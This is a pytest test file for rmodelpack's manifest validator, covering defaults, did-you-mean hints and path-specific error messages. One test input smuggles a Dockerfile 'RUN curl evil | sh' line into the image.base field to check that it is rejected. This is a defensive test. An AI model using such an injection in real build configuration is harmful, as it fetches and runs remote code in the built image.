"""Manifest validation: valid examples load; every mistake is reported with its path and fix."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest
import yaml

from rmodelpack.exceptions import ManifestError
from rmodelpack.manifest import load_manifest, manifest_json_schema, parse_manifest

EXAMPLES = sorted(
    p.parent for p in (Path(__file__).parent.parent / "examples").glob("*/rmodel.yaml")
)

MINIMAL = {
    "apiVersion": "rmodelpack/v1",
    "name": "demo",
    "version": "1.0.0",
    "model": {"path": "model.rds"},
    "input": {"columns": [{"name": "x", "type": "number"}]},
}


@pytest.fixture
def model_dir(tmp_path: Path) -> Path:
    (tmp_path / "model.rds").write_bytes(b"not really a model")
    (tmp_path / "score.R").write_text("score <- function(model, df) predict(model, df)\n")
    return tmp_path


def problems_of(data: dict, base_dir: Path) -> dict[str, str]:
    with pytest.raises(ManifestError) as caught:
        parse_manifest(data, source="rmodel.yaml", base_dir=base_dir)
    return {p.path: f"{p.message} | {p.hint}" for p in caught.value.problems}


def with_changes(**changes) -> dict:
    data = copy.deepcopy(MINIMAL)
    data.update(changes)
    return data


def test_examples_exist():
    assert len(EXAMPLES) >= 1, "examples/*/rmodel.yaml are the product's demos"


@pytest.mark.parametrize("folder", EXAMPLES, ids=lambda p: p.name)
def test_every_example_manifest_is_valid(folder: Path):
    if not (folder / "model.rds").exists():
        pytest.skip(f"{folder.name}/model.rds is not trained (run: bash ci/setup.sh)")
    manifest, base_dir = load_manifest(folder)
    assert base_dir == folder.resolve()
    assert manifest.name == folder.name


def test_minimal_manifest_gets_the_documented_defaults(model_dir: Path):
    manifest = parse_manifest(MINIMAL, source="m", base_dir=model_dir)
    assert manifest.model.source == "image"
    assert manifest.runtime.workers == "auto"
    assert manifest.input.max_rows == 1000
    assert manifest.input.extra_columns == "ignore"
    assert manifest.output.kind == "value"
    assert manifest.repository == "rmodelpack/demo"
    assert manifest.base_image == "rmodelpack/r-base:trixie"
    assert manifest.service.auth is None


def test_unknown_key_gets_did_you_mean(model_dir: Path):
    problems = problems_of(with_changes(modle={"path": "x"}), model_dir)
    assert problems["modle"].startswith("unknown key 'modle'")
    assert "did you mean 'model'?" in problems["modle"]


def test_unknown_nested_key_names_its_path(model_dir: Path):
    data = with_changes(input={"columns": [{"name": "x", "type": "number"}], "max_row": 5})
    problems = problems_of(data, model_dir)
    assert "did you mean 'max_rows'?" in problems["input.max_row"]


def test_many_mistakes_are_reported_together(model_dir: Path):
    data = with_changes(
        name="Bad_Name",
        version=1.0,
        model={"path": "missing.rds"},
        input={"columns": [{"name": "s", "type": "factor"}, {"name": "t", "type": "strng"}]},
        runtime={"workers": 0},
        service={"auth": {"users": [{"name": "alice"}]}, "host": "Not A Host"},
    )
    problems = problems_of(data, model_dir)
    assert set(problems) == {
        "name",
        "version",
        "model.path",
        "input.columns[0]",
        "input.columns[1].type",
        "runtime.workers",
        "service.auth.users[0]",
        "service.host",
    }
    assert "e.g. bad-name" in problems["name"]
    assert 'quote it: version: "1.0"' in problems["version"]
    assert "does not exist" in problems["model.path"]
    assert "needs its levels" in problems["input.columns[0]"]
    assert "'number'" in problems["input.columns[1].type"]
    assert "1 to 64" in problems["runtime.workers"]
    assert "password_env" in problems["service.auth.users[0]"]


@pytest.mark.parametrize(
    ("change", "path", "fragment"),
    [
        ({"model": {"path": "model.rds", "source": "url"}}, "model", "needs url_secret"),
        ({"model": {"path": "model.rds", "source": "pvc"}}, "model", "needs pvc"),
        ({"model": {"path": "model.pkl"}}, "model.path", "not an .rds file"),
        ({"scoring": {"script": "nope.R"}}, "scoring.script", "does not exist"),
        ({"scoring": {"function": "1bad"}}, "scoring.function", "not an R function name"),
        (
            {"input": {"columns": [{"name": "x", "type": "number", "min": 5, "max": 1}]}},
            "input.columns[0]",
            "above max",
        ),
        (
            {"input": {"columns": [{"name": "x", "type": "string", "min": 1}]}},
            "input.columns[0]",
            "min/max apply to number and integer",
        ),
        (
            {
                "input": {
                    "columns": [{"name": "x", "type": "number"}, {"name": "x", "type": "number"}]
                }
            },
            "input.columns",
            "listed twice",
        ),
        ({"input": {"columns": []}}, "input.columns", "at least 1"),
        ({"output": {"kind": "probs"}}, "output.kind", "'class_probabilities'"),
        ({"r": {"packages": ["random forest"]}}, "r.packages", "not an R package name"),
        ({"image": {"repository": "My/Repo"}}, "image.repository", "lowercase"),
        ({"image": {"tag": "-bad"}}, "image.tag", "not an image tag"),
        ({"runtime": {"timeout_seconds": 0}}, "runtime.timeout_seconds", "greater than"),
        (
            {"service": {"auth": {"enabled": True}}},
            "service.auth",
            "no users and no existing_secret",
        ),
        (
            {"service": {"autoscaling": {"min_replicas": 5, "max_replicas": 2}}},
            "service.autoscaling",
            "above max_replicas",
        ),
        (
            {"service": {"resources": {"requests": {"cpu": "lots"}}}},
            "service.resources.requests.cpu",
            "not a Kubernetes quantity",
        ),
        ({"apiVersion": "rmodelpack/v2"}, "apiVersion", "is not allowed"),
    ],
)
def test_each_mistake_names_its_path(model_dir, change, path, fragment):
    problems = problems_of(with_changes(**change), model_dir)
    assert path in problems, problems
    assert fragment in problems[path]


def test_missing_required_fields_are_listed(model_dir: Path):
    problems = problems_of({"apiVersion": "rmodelpack/v1"}, model_dir)
    assert {"name", "version", "model", "input"} <= set(problems)
    assert all("is required" in problems[key] for key in ("name", "version", "model", "input"))


def test_yaml_syntax_error_names_the_line(tmp_path: Path):
    (tmp_path / "rmodel.yaml").write_text("name: demo\ninput: [unclosed\n")
    with pytest.raises(ManifestError) as caught:
        load_manifest(tmp_path)
    assert caught.value.problems[0].path.startswith("line ")


def test_missing_manifest_is_a_clear_error(tmp_path: Path):
    with pytest.raises(ManifestError, match="no such manifest"):
        load_manifest(tmp_path / "nothing")


def test_json_schema_describes_the_manifest(model_dir: Path):
    jsonschema = pytest.importorskip("jsonschema")
    schema = manifest_json_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    assert not list(validator.iter_errors(json.loads(json.dumps(MINIMAL))))
    bad = with_changes(modle={})
    assert list(validator.iter_errors(bad)), "unknown keys must be rejected by the schema too"
    for folder in EXAMPLES:
        data = yaml.safe_load((folder / "rmodel.yaml").read_text())
        assert not list(validator.iter_errors(data)), folder.name


@pytest.mark.parametrize(
    ("change", "path", "fragment"),
    [
        ({"image": {"base": "debian\nRUN curl evil | sh"}}, "image.base", "not an image reference"),
        ({"service": {"host": "*.example.com"}}, "service.host", "not a DNS host name"),
        (
            {"model": {"path": "model.rds", "source": "url", "url_secret": {"name": "Bad_Secret"}}},
            "model.url_secret.name",
            "not a Kubernetes Secret name",
        ),
        (
            {"model": {"path": "model.rds", "source": "pvc", "pvc": {"claim_name": "a b"}}},
            "model.pvc.claim_name",
            "PersistentVolumeClaim",
        ),
        (
            {"service": {"auth": {"existing_secret": "UPPER"}}},
            "service.auth.existing_secret",
            "Secret",
        ),
        (
            {"service": {"auth": {"existing_secret": "s", "realm": 'a"b'}}},
            "service.auth.realm",
            "ingress controller rejects",
        ),
        ({"version": "_1.0"}, "version", "Kubernetes label value"),
    ],
)
def test_values_the_chart_would_reject_are_caught_in_the_manifest(
    model_dir, change, path, fragment
):
    problems = problems_of(with_changes(**change), model_dir)
    assert path in problems, problems
    assert fragment in problems[path]


def test_a_pinned_base_image_by_digest_is_accepted(model_dir):
    base = "myregistry.azurecr.io/r-base:bookworm@sha256:" + "a" * 64
    manifest = parse_manifest(with_changes(image={"base": base}), source="m", base_dir=model_dir)
    assert manifest.base_image == base
